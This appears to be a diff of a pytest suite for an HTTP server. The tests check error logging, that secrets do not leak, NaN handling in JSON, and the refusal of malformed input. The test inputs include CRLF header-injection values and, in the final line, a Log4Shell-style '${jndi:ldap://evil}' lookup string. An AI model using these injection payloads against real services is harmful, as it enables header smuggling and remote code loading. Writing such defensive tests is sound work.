@@ -17,19 +17,21 @@ def test_row_an_unexpected_error_tells_nothing_and_is_logged_once(own_server: An
     assert answer.problem["request_id"] == "abc-123"
     assert b"hunter2" not in answer.raw
     assert b"RuntimeError" not in answer.raw
-    own_server.stop()
-    lines = [json.loads(line) for line in own_server.log.read_text().splitlines() if line.startswith("{")]
-    reports = [line for line in lines if "hunter2" in json.dumps(line)]
-    assert len(reports) == 1
-    assert reports[0]["request_id"] == "abc-123"
+    (report,) = own_server.reports("hunter2")
+    assert report["request_id"] == "abc-123"
 
 
-@pytest.mark.parametrize("place", ["guard", "dependency", "exception-handler"])
-def test_row_an_unexpected_error_in_a_guard_a_dependency_or_an_exception_handler(server: Any, place: str) -> None:
-    answer = server.request("GET", f"/raise-in-{place}")
+def test_row_an_error_anywhere_is_answered_with_its_request_id_and_logged_once(own_server: Any) -> None:
+    """In a handler, a guard, a dependency, an exception handler, and in a stream after the first byte."""
+    places = ["raise", "raise-in-guard", "raise-in-dependency", "raise-in-exception-handler", "broken-stream"]
 
-    assert answer.problem["status"] == 500
-    assert b"hunter2" not in answer.raw
+    answers = [own_server.request("GET", f"/{place}", f"X-Request-ID: {place}") for place in places]
+
+    assert [answer.raw for answer in answers if b"hunter2" in answer.raw or b"RuntimeError" in answer.raw] == []
+    assert [(answer.status, answer.problem["request_id"]) for answer in answers[:-1]] == [
+        (500, place) for place in places[:-1]
+    ]
+    assert [report["request_id"] for report in own_server.reports("hunter2")] == places
 
 
 def test_row_no_local_variable_of_a_traceback_is_logged(own_server: Any) -> None:
@@ -40,9 +42,39 @@ def test_row_no_local_variable_of_a_traceback_is_logged(own_server: Any) -> None
     assert "canary" not in own_server.log.read_text()
 
 
-def test_row_not_a_number_is_sent_as_null(server: Any) -> None:
-    """JSON has neither NaN nor infinity; docs/kernel.md says what becomes of them."""
-    assert server.request("GET", "/nan").body == b'{"n":null}'
+def test_row_encoding_not_a_number_is_refused(own_server: Any) -> None:
+    """JSON has neither NaN nor infinity, and ``null`` says something else: our error, logged with its place."""
+    places = {
+        "/nan": "/n",
+        "/nan-in-response": "/n/1/a~1b",
+        "/nan-of-type": "",
+        "/nan-in-resource": "/data/n",
+        "/nan-in-problem": "/available",
+    }
+
+    answers = [own_server.request("GET", path) for path in places]
+
+    assert [answer.problem["status"] for answer in answers] == [500] * len(places)
+    assert [answer.raw for answer in answers if b"null" in answer.body] == []
+    reports = own_server.reports("request_failed")
+    assert [report["pointer"] for report in reports] == list(places.values())
+    assert [report["request_id"] for report in reports] == [answer.problem["request_id"] for answer in answers]
+
+
+@pytest.mark.parametrize("accept", ["application/json", "application/x-ndjson"])
+def test_row_a_stream_with_not_a_number_is_aborted(own_server: Any, accept: str) -> None:
+    answer = own_server.request("GET", "/nan-in-stream", f"Accept: {accept}")
+
+    assert answer.status == 200
+    assert b'{"id":999,"n":null}' in answer.body
+    assert b'"id":1999' not in answer.body
+    assert not answer.raw.endswith(b"0\r\n\r\n")
+    own_server.stop()
+    assert own_server.log.read_text().count("which stands at /1200/n") == 1
+
+
+def test_row_a_null_that_is_meant_is_sent(server: Any) -> None:
+    assert server.request("GET", "/nulls").body == b"[null,1.5,null]"
 
 
 def test_row_a_stream_that_breaks_is_aborted_and_not_ended_cleanly(server: Any) -> None:
@@ -53,15 +85,29 @@ def test_row_a_stream_that_breaks_is_aborted_and_not_ended_cleanly(server: Any) 
     assert b"hunter2" not in answer.raw
 
 
-@pytest.mark.parametrize("value", ["a%0d%0aset-cookie:%20b=1", "a%0ab", "a%00b", "%E2%82%AC"])
-def test_row_a_response_header_made_from_input(server: Any, value: str) -> None:
-    answer = server.request("GET", f"/header?value={value}")
+def test_row_a_response_header_made_from_input(own_server: Any) -> None:
+    """CR, LF and what is no Latin-1: our error, logged with the name of the header; NUL is no text of ours at all."""
+    values = ["a%0d%0aset-cookie:%20b=1", "a%0ab", "a%0db", "%E2%82%AC"]
 
-    assert answer.count == 1
-    assert "set-cookie" not in answer.headers
-    assert answer.status in (200, 400, 422, 500)
-    if answer.status == 500:
-        assert answer.problem["code"]
+    answers = [own_server.request("GET", f"/header?value={value}") for value in values]
+
+    assert [(answer.status, answer.count, "set-cookie" in answer.headers) for answer in answers] == [
+        (500, 1, False) for _ in values
+    ]
+    assert [answer.problem["code"] for answer in answers] == ["http.internal_server_error"] * len(values)
+    assert own_server.request("GET", "/header?value=a%00b").problem["status"] == 422
+    assert [report["header"] for report in own_server.reports("request_failed")] == ["x-name"] * len(values)
+
+
+def test_row_what_a_client_does_wrong_is_no_error_in_the_log(own_server: Any) -> None:
+    """A stranger could fill it otherwise: 501 and 505 are refusals, too."""
+    own_server.request("POST", "/bytes", "Transfer-Encoding: gzip, chunked")
+    own_server.send(b"GET /ping HTTP/2.0\r\nHost: localhost\r\nConnection: close\r\n\r\n")
+    own_server.request("GET", "/absent")
+    own_server.request("POST", "/unread", body=b"x" * 2_000_000)
+    own_server.post("/things", b"{")
+
+    assert own_server.reports('"level": "error"') == []
 
 
 @pytest.mark.parametrize("value", ["a" * 10_000, "${jndi:ldap://evil}", "a b"])
